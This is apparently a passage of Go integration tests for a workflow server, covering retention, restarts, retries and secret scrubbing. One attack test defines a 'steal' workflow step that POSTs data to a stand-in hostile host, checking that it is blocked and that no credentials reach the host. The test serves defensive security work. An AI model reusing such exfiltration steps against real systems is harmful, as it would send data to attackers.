		t.Fatalf("run --wait: %d %s %s", code, out, errOut)
	}
	// Errors: one line, non-zero.
	os.WriteFile(file, []byte(`{"steps":[{"id":"a","sleep":"later"}]}`), 0o600)
	code, _, errOut = rotor(t, env, "workflows", "apply", "bad", "-f", file)
	if code == 0 || !strings.Contains(errOut, "invalid_workflow") || !strings.Contains(errOut, "steps[0] (a).sleep") || strings.Count(strings.TrimSpace(errOut), "\n") > 0 {
		t.Fatalf("invalid apply: %d %q", code, errOut)
	}
	if code, _, errOut := rotor(t, env, "runs", "cancel", run.ID); code == 0 || !strings.Contains(errOut, "--yes") {
		t.Fatalf("cancel without --yes: %d %s", code, errOut)
	}
	if code, _, errOut := rotor(t, env, "runs", "cancel", run.ID, "--yes"); code == 0 || !strings.Contains(errOut, "run_state") {
		t.Fatalf("cancel of a completed run: %d %s", code, errOut)
	}
	if code, _, errOut := rotor(t, env, "runs", "retry", "run_nope"); code == 0 || !strings.Contains(errOut, "not_found") {
		t.Fatalf("retry of an unknown run: %d %s", code, errOut)
	}
	if code, _, errOut := rotor(t, env, "workflows", "delete", "quick", "--yes"); code != 0 {
		t.Fatalf("delete: %d %s", code, errOut)
	}
}

// TestWorkflowRunsRetention: with --jobs-retention 2s a finished run is
// deleted (and counted); an open run is kept.
func TestWorkflowRunsRetention(t *testing.T) {
	s := startServer(t, t.TempDir(), "ROTOR_JOBS_RETENTION=2s")
	defer s.stop()
	key := s.adminKey()
	putWorkflow(t, s, key, "short", `{"steps":[{"id":"nap","sleep":"10ms"}]}`)
	putWorkflow(t, s, key, "open", `{"steps":[{"id":"w","wait_for_signal":"never"}]}`)
	done := startRun(t, s, key, "short", `{}`)
	open := startRun(t, s, key, "open", `{}`)
	waitRun(t, s, key, done.ID, "completed", func(r runView) bool { return r.Status == "completed" })
	deadline := time.Now().Add(20 * time.Second)
	for {
		code, _ := call(t, "GET", s.apiURL+"/v1/workflow-runs/"+done.ID, key, "")
		if code == 404 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the finished run was not pruned")
		}
		time.Sleep(200 * time.Millisecond)
	}
	if r := getRun(t, s.apiURL, key, open.ID); r.Status != "waiting" {
		t.Fatalf("the open run: %+v", r)
	}
	_, m := call(t, "GET", s.opsURL+"/metrics", "", "")
	if !strings.Contains(m, "rotor_workflow_runs_pruned_total 1") {
		t.Fatalf("pruned metric:\n%s", grepLines(m, "pruned"))
	}
}

// TestAttackMemberWorkflowExfiltration: every step request is signed with
// the workspace's signing secret (and carries the callback secret when it
// sets no Authorization), so a member key may not point a step at a host
// the callback secret's allowed_hosts do not approve; and where an admin
// did, the proxy still attaches nothing outside allowed_hosts: the step
// fails and the host gets nothing.
func TestAttackMemberWorkflowExfiltration(t *testing.T) {
	evil := newHostile(t)
	s := startServer(t, t.TempDir())
	defer s.stop()
	admin := s.adminKey()
	member := mustCall(t, 201, "POST", s.apiURL+"/v1/keys", admin, `{"name":"intern","role":"member"}`)["key"].(string)
	def := `{"steps":[{"id":"steal","request":{"method":"POST","url":"` + evil.URL + `/steal","body":{"x":1}},"retry":{"max_attempts":1}}]}`
	code, body := call(t, "PUT", s.apiURL+"/v1/workflows/steal", member, def)
	if code != 403 || !strings.Contains(body, "admin must approve") {
		t.Fatalf("member workflow at its own host: %d %s", code, body)
	}
	mustCall(t, 200, "PATCH", s.apiURL+"/v1/workspace/callback-secret", admin, `{"allowed_hosts":["hooks.example.com"]}`)
	mustCall(t, 201, "PUT", s.apiURL+"/v1/workflows/steal", admin, def)
	run := startRun(t, s, member, "steal", `{}`)
	r := waitRun(t, s, admin, run.ID, "failed", func(r runView) bool { return r.Status == "failed" })
	if r.ErrorCode != "host_not_allowed" {
		t.Fatalf("error code %q", r.ErrorCode)
	}
	select {
	case req := <-evil.got:
		t.Fatalf("the hostile host got a request (Authorization set: %v, signature set: %v)", req.Header.Get("Authorization") != "", req.Header.Get("webhook-signature") != "")
	default:
	}
	// The member may replace the admin's workflow keeping its destination
	// (no new host), as with queues.
	if code, body := call(t, "PUT", s.apiURL+"/v1/workflows/steal", member, strings.Replace(def, `"x":1`, `"x":2`, 1)); code != 200 {
		t.Fatalf("member update, same destination: %d %s", code, body)
	}
}

// TestWorkflowGracefulRestart: SIGTERM while a step's request is in
// flight gives the run's lease back, so the restarted node resumes it at
// once instead of after the lease (2 minutes); the step is sent again
// (at least once) with the same Idempotency-Key.
func TestWorkflowGracefulRestart(t *testing.T) {
	var calls atomic.Int32
	inFlight := make(chan string, 4)
	release := make(chan struct{})
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		if calls.Add(1) == 1 {
			inFlight <- r.Header.Get("Idempotency-Key")
			select {
			case <-release:
			case <-time.After(20 * time.Second):
			}
			return
		}
		inFlight <- r.Header.Get("Idempotency-Key")
	}))
	defer up.Close()
	defer close(release)
	dir := t.TempDir()
	s := startServer(t, dir)
	key := s.adminKey()
	putWorkflow(t, s, key, "slow", `{"steps":[{"id":"call","request":{"method":"POST","url":"`+up.URL+`/slow"}}]}`)
	run := startRun(t, s, key, "slow", `{}`)
	var first string
	select {
	case first = <-inFlight:
	case <-time.After(20 * time.Second):
		t.Fatal("the step was never sent")
	}
	s.stop()
	s2 := startServer(t, dir)
	defer s2.stop()
	start := time.Now()
	r := waitRun(t, s2, key, run.ID, "completed", func(r runView) bool { return r.Status == "completed" })
	if d := time.Since(start); d > 20*time.Second {
		t.Fatalf("resumed after %v: the lease was not given back", d)
	}
	if second := <-inFlight; second != first || first != run.ID+"/call" {
		t.Fatalf("Idempotency-Key %q then %q", first, second)
	}
	if len(r.Steps[0].Attempts) != 1 {
		t.Fatalf("attempts recorded: %d (the aborted one is not an attempt)", len(r.Steps[0].Attempts))
	}
}

// TestWorkflowReflectedSecret: an upstream that echoes the secret it was
// sent: the step's stored output holds the reference (the proxy scrubbed
// the response), never the value; and a later step that would send that
// output on fails instead of making the proxy resolve it again.
func TestWorkflowReflectedSecret(t *testing.T) {
	const value = "reflected-secret-value-6c1f"
	var onward atomic.Int32
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		if r.URL.Path == "/onward" {
			onward.Add(1)
			return
		}
		w.Header().Set("Content-Type", "application/json")
		json.NewEncoder(w).Encode(map[string]string{"you_sent": r.Header.Get("X-Key")})
	}))
	defer up.Close()
	dir := t.TempDir()
	s := startServer(t, dir)
	key := s.adminKey()
	mustCall(t, 201, "POST", s.apiURL+"/v1/secrets", key, `{"name":"ECHOED","value":"`+value+`"}`)
	putWorkflow(t, s, key, "reflect", `{"steps":[
		{"id":"echo","request":{"method":"GET","url":"`+up.URL+`/echo","headers":{"X-Key":"${{ secrets.ECHOED }}"}}},
		{"id":"onward","request":{"method":"POST","url":"`+up.URL+`/onward","body":{"got":"${{ steps.echo.output.you_sent }}"}}}
	]}`)
	run := startRun(t, s, key, "reflect", `{}`)
	r := waitRun(t, s, key, run.ID, "failed", func(r runView) bool { return r.Status == "failed" })
	var out map[string]string
	json.Unmarshal(r.Steps[0].Output, &out)
	if out["you_sent"] != "${{ secrets.ECHOED }}" || r.ErrorCode != "expression_failed" || onward.Load() != 0 {
		t.Fatalf("output %s, error %q, onward requests %d", r.Steps[0].Output, r.ErrorCode, onward.Load())
	}
	_, runBody := call(t, "GET", s.apiURL+"/v1/workflow-runs/"+run.ID, key, "")
	s.stop()
	db, _ := os.ReadFile(filepath.Join(dir, "data", "rotor.db"))
	leakcheck.Scan(t, value, map[string][]byte{"bbolt file": db, "server output": []byte(s.out.String()), "run": []byte(runBody)})
}

// TestWorkflowRetryAfter: a 503 with Retry-After: 2 delays the step's next
// attempt by two seconds rather than its 0.1 s backoff (as for jobs).
func TestWorkflowRetryAfter(t *testing.T) {
	var calls atomic.Int32
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		io.Copy(io.Discard, r.Body)
		if calls.Add(1) == 1 {
			w.Header().Set("Retry-After", "2")
			w.WriteHeader(http.StatusServiceUnavailable)
		}
	}))
	defer up.Close()
	s := startServer(t, t.TempDir())
	defer s.stop()
	key := s.adminKey()
	putWorkflow(t, s, key, "busy", `{"steps":[{"id":"call","request":{"method":"GET","url":"`+up.URL+`/busy"},"retry":{"max_attempts":3,"backoff_base_seconds":0.1,"backoff_cap_seconds":0.1}}]}`)
	run := startRun(t, s, key, "busy", `{}`)
	r := waitRun(t, s, key, run.ID, "completed", func(r runView) bool { return r.Status == "completed" })
	a := r.Steps[0].Attempts
	if len(a) != 2 || a[0].StatusCode != 503 || a[1].StartedAt.Sub(a[0].StartedAt) < 2*time.Second {
		t.Fatalf("attempts: %+v", a)
	}
}
